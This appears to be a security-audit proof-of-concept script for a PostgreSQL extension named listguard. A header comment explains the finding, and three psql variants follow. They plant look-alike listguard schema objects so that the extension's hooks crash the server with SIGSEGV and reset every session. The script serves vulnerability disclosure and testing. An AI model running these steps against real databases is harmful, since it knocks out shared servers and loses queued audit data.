#!/usr/bin/env bash
# FINDING (round 3, class 2: crash in a hook, listguard preloaded without the
# extension). listguard finds "its" objects by name only
# (pg/base/catalog.cpp listguard_objects(): schema "listguard", type
# "email"), never checking that they belong to the extension or have its
# layout, and its hooks then read any datum of that type as a varlena
# (pg/output/write_back.cpp is_placeholder_param / is_placeholder_const:
# holds_placeholder(DatumGetPointer(value))). In a database where the
# extension is not created, any role that may create a schema there (every
# database owner) makes schema listguard with a pass-by-value type named
# email (an enum; CREATE TYPE over "listguard.email" is not refused there,
# only functions, operators and casts are) and binds one parameter of it:
# ExecutorStart's check_written_back_parameters() dereferences the enum's
# OID as a pointer. SIGSEGV, the postmaster resets every session of every
# database (the protected ones too): queued audit events and counts are
# lost, quota crash room is used up; repeatable at will.
# Variant 2: the guard on functions over listguard.email is passed by
# making them over x.email and renaming schema x to listguard; then a plain
# UPDATE of an enum column crashes in the planner hook (plan_written_back ->
# is_placeholder_const).
# Variant 3: look-alike listguard.grants/audit_log/protected_tables (any
# column types) make the DDL guard read protected_tables' columns as names
# and text (pg/protect/protection.cpp): any ALTER TABLE crashes.
# RESULT: FINDING (H): all three kill their backend with SIGSEGV and the
# postmaster reinitializes.
# Expected secure outcome: an ordinary error or nothing; the server keeps
# running.
# Needs PGHOST, PGPORT (superuser postgres), SERVERLOG; a role that owns a
# database (here a_masked, as a customer with its own database would).
set -u
P="psql -X -q"
$P -U postgres -d postgres -c "DROP DATABASE IF EXISTS atk_crash" -c "CREATE DATABASE atk_crash OWNER a_masked" >/dev/null
before=$(grep -c "terminated by signal" "${SERVERLOG:?}")
$P -U a_masked -d atk_crash <<'SQL' 2>&1
CREATE SCHEMA listguard;
CREATE TYPE listguard.email AS ENUM ('a', 'b');
PREPARE p(listguard.email) AS SELECT $1;
EXECUTE p('a');
SQL
sleep 3
for i in 1 2 3 4 5 6 7 8 9 10; do $P -U postgres -d postgres -Atc "select 1" >/dev/null 2>&1 && break; sleep 1; done
echo "== variant 2: functions made elsewhere, schema renamed"
$P -U postgres -d postgres -c "DROP DATABASE IF EXISTS atk_crash" -c "CREATE DATABASE atk_crash OWNER a_masked" >/dev/null
$P -U a_masked -d atk_crash <<'SQL' 2>&1
CREATE SCHEMA x;
CREATE TYPE x.email AS ENUM ('a', 'b');
CREATE FUNCTION x._written_back(x.email, x.email, regclass, int2) RETURNS x.email LANGUAGE sql AS 'SELECT $2';
CREATE FUNCTION x._written_back(x.email, text, regclass, int2) RETURNS x.email LANGUAGE sql AS 'SELECT $2::x.email';
CREATE TABLE public.t (id int, e x.email);
INSERT INTO public.t VALUES (1, 'a');
ALTER SCHEMA x RENAME TO listguard;
\c
UPDATE public.t SET e = 'b' WHERE id = 1;
SQL
sleep 3
for i in 1 2 3 4 5 6 7 8 9 10; do $P -U postgres -d postgres -Atc "select 1" >/dev/null 2>&1 && break; sleep 1; done
echo "== variant 3: a look-alike protected_tables, read by the DDL guard"
$P -U postgres -d postgres -c "DROP DATABASE IF EXISTS atk_crash" -c "CREATE DATABASE atk_crash OWNER a_masked" >/dev/null
$P -U a_masked -d atk_crash <<'SQL' 2>&1
CREATE SCHEMA listguard;
CREATE TYPE listguard.email AS ENUM ('a');
CREATE TABLE listguard.grants (x int);
CREATE TABLE listguard.audit_log (x int);
CREATE TABLE listguard.protected_tables (relid oid, account_column int, list_column int, audit int);
CREATE TABLE public.victim (id int);
INSERT INTO listguard.protected_tables VALUES ('public.victim'::regclass, 1, 2, 3);
\c
ALTER TABLE public.victim ADD COLUMN y int;
SQL
sleep 3
for i in 1 2 3 4 5 6 7 8 9 10; do $P -U postgres -d postgres -Atc "select 1" >/dev/null 2>&1 && break; sleep 1; done
after=$(grep -c "terminated by signal" "$SERVERLOG")
echo "backends killed by a signal during this script: $((after - before))"
grep "terminated by signal" "$SERVERLOG" | tail -2
